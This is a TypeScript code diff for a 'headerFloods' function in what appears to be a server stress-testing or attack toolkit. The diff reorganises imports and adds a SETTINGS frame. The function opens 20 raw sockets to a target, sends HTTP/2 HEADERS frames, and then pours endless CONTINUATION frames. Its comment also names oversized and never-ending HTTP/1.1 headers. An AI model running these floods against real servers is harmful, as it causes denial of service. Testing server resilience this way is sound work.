@@ -1,5 +1,6 @@
 import { flood } from "../kit.js";
-import { frame, grpcRequest, PREFACE, pour, session, socket } from "../raw.js";
+import { frame, PREFACE } from "../raw/raw-http2.js";
+import { grpcRequest, pour, session, socket } from "../raw/sessions.js";
 import type { Target } from "../target.js";
 
 /** Headers of 40 KB, headers that never end over HTTP/1.1, and over HTTP/2 by continuation without end. */
@@ -18,7 +19,7 @@ export async function headerFloods(target: Target): Promise<void> {
   });
   const http2 = Array.from({ length: 20 }, (_, i) => {
     const opened = socket(target, i);
-    opened.write(Buffer.concat([PREFACE, frame(1, 0, 1, Buffer.from([0x82]))]));
+    opened.write(Buffer.concat([PREFACE, frame(4, 0, 0), frame(1, 0, 1, Buffer.from([0x82]))]));
     return pour(opened, target, () => frame(9, 0, 1, Buffer.alloc(8_000, 0x82)));
   });
   await Promise.all([calls, ...http1, ...http2]);
